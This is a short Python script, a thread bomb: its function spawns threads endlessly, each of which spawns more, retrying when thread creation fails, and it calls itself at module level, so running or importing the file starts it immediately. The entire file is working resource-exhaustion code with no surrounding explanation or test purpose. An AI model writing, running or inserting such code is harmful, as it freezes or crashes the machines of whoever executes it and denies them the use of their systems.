"""Starts threads without end, each of which starts threads."""

import threading
import time


def bomb():
    while True:
        try:
            threading.Thread(target=bomb).start()
        except RuntimeError:
            time.sleep(0.01)


bomb()
